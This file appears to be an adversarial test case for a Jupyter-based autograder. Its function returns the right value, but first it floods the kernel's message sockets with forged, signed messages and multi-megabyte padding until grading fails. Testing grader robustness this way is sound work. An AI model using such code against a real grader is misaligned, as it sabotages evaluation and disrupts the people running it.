# Attack 56: Messages without end to the grader's sockets, also those that nobody reads.
# points: double 0, half 1
# reads: double: error (no answer|the kernel ended)
# timeout: 4

# %% double-answer
import json


def double(x):
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    ident = kernel._get_shell_context_var(kernel._shell_parent_ident)
    large = b"[" + b"[]," * 2_000_000 + b"1]"
    header = json.dumps({"msg_type": "display_data", "msg_id": "1", "date": "2026-01-01T00:00:00"}).encode()
    about = json.dumps(parent["header"], default=str).encode()
    parts = [header, about, b"{}", b'{"data": {"application/json": ' + large + b'}, "metadata": {}}']
    message = [b"kernel", b"<IDS|MSG>", kernel.session.sign(parts), *parts]
    pieces = [b"x" * 50_000_000] * 10
    for number in range(1000):
        kernel.iopub_socket.send_multipart([*message, *pieces], copy=False)
        kernel.iopub_socket.send_multipart([*message], copy=False)
        kernel.session.send(kernel.stdin_socket, "input_request", b"x" * 10_000_000, ident=ident)
        kernel.session.send(kernel.shell_stream.socket, "execute_reply", b"x" * 10_000_000, ident=ident)
    return x
